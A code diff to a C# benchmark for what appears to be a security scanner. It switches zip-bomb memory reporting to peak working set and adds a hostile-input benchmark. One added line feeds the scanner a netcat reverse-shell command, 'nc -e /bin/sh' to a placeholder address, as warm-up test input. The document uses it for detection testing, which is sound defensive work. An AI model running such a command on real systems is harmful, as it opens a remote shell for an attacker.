@@ -19,6 +19,7 @@ internal static class ScanBenchmark
         Report("the 40 rules, mixed text", time, text, piece => rules.Analyze(new ScanSource(piece.Name, piece.Text), CancellationToken.None).Count());
         Report("everything, mixed text", time, text, piece => scanner.ScanText(piece.Text, piece.Name).Findings.Count);
         Folder(scanner);
+        HostileBenchmark.Run(scanner);
     }
 
     private static void Report(string what, TimeSpan time, IReadOnlyList<(string Name, string Text)> pieces, Func<(string Name, string Text), int> scan)
@@ -55,11 +56,11 @@ internal static class ScanBenchmark
                 }
             }
 
-            var before = Allocated();
+            _ = scanner.ScanText("nc -e /bin/sh 203.0.113.9 1", "a.sh");
+            var before = Peak();
             var started = TimeProvider.System.GetTimestamp();
             var result = scanner.ScanSkill(path);
-            using var process = System.Diagnostics.Process.GetCurrentProcess();
-            Line($"zip bomb, {new FileInfo(path).Length / 1e6:N1} MB for 4.3 GB: {TimeProvider.System.GetElapsedTime(started).TotalSeconds:N1} s, heap {before / 1e6:N0} MB before, {Allocated() / 1e6:N0} MB after; the process had at most {process.PeakWorkingSet64 / 1e6:N0} MB; {result.Findings.Count} findings, the first: {result.Findings[0].Rule}");
+            Line($"zip bomb, {new FileInfo(path).Length / 1e6:N1} MB for 4.3 GB: {TimeProvider.System.GetElapsedTime(started).TotalSeconds:N1} s, the process had at most {before / 1e6:N0} MB before and {Peak() / 1e6:N0} MB after; {result.Findings.Count} findings, the first: {result.Findings[0].Rule}");
         }
         finally
         {
@@ -89,7 +90,11 @@ internal static class ScanBenchmark
         }
     }
 
-    private static long Allocated() => GC.GetTotalMemory(forceFullCollection: true);
+    private static long Peak()
+    {
+        using var process = System.Diagnostics.Process.GetCurrentProcess();
+        return process.PeakWorkingSet64;
+    }
 
     private static void Line(FormattableString line) => Console.WriteLine(line.ToString(CultureInfo.InvariantCulture));
 }
